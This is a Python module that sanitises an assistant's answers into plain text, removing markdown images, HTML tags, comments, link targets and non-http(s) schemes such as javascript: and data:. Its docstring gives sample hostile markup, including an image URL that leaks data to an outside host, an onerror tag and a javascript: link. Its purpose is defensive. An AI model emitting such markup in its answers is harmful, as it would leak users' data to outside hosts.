"""Answer text as plain text: nothing in it that a rendering client would fetch or run.

Articles and models can carry markup: a markdown image (``![x](http://host/leak?q=…)``,
fetched by any markdown renderer as soon as it is shown), raw HTML (``<img onerror=…>``)
or a ``javascript:`` link. Every answer passes :func:`plain_text` sentence by sentence
(:func:`assistant.answering.citations.verify_citations`), so the UI, the widget, ``/v1`` and the
OpenAI-compatible route all deliver the same clean text. Citation markers ``[n]`` stay.
"""

from __future__ import annotations

import re

_IMAGE_RE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
_LINK_RE = re.compile(r"\[([^\]\n]*)\]\(\s*([^)\s]*)[^)\n]*\)")
_COMMENT_RE = re.compile(r"<!--.*?(?:-->|$)", re.S)
_TAG_RE = re.compile(r"</?[A-Za-z][A-Za-z0-9:-]*(?:\s[^<>]*)?/?>")
_AUTOLINK_RE = re.compile(r"<((?:https?|mailto|ftp)[^<>\s]*)>", re.I)
# A URI with a scheme other than http(s): javascript:, data:, vbscript:, file: …
_SCHEME_RE = re.compile(
    r"(?<![\w/.])(?!https?:)(?:javascript|vbscript|data|file|blob|about|intent|ms-\w+)\s*:\S*",
    re.I,
)
_SPACES_RE = re.compile(r"[ \t]{2,}")


def _link(m: re.Match) -> str:
    """``[text](url)`` → ``text``, or the marker when the text is a citation number."""
    text = m.group(1).strip()
    return f"[{text}]" if text.isdigit() else text


def plain_text(text: str) -> str:
    """``text`` without markdown images, HTML tags or comments, link targets and
    non-http(s) URIs; http(s) URLs written out stay as text."""
    out = _IMAGE_RE.sub("", text)
    out = _LINK_RE.sub(_link, out)
    out = _COMMENT_RE.sub("", out)
    out = _AUTOLINK_RE.sub(r"\1", out)
    out = _TAG_RE.sub("", out)
    out = _SCHEME_RE.sub("", out)
    return _SPACES_RE.sub(" ", out)
